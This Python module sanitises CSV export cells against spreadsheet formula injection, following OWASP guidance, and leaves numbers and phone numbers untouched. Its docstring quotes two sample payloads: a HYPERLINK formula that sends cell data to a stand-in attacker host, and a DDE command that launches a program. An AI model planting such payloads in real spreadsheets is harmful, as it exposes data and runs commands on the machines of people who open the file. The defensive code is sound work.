"""Spreadsheet-safe CSV cells: what every CSV export writes, so a cell cannot become a formula.

A text such as ``+HYPERLINK("http://evil.example/?d="&A1,"klik")`` or ``@SUM(1+9)*cmd|' /C calc'!A0``
can arrive in a volunteer's name or a message, and Excel or LibreOffice would run it when a
coordinator opens the export. Following OWASP's "CSV Injection" advice, a text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which
spreadsheets show as text and never evaluate. Plain numbers (``-5``, ``+3.5``) and E.164 phone
numbers (``+6281234567890``) are data people sort and dial, so they stay exactly as they are; the
``csv`` module's quoting already keeps a cell's commas and quotes inside that cell.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

#: The characters a spreadsheet reads as the start of a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_E164 = re.compile(r"\+[1-9]\d{6,14}")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would evaluate; then ``'`` + text."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value) or _E164.fullmatch(value):
        return value
    return "'" + value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]
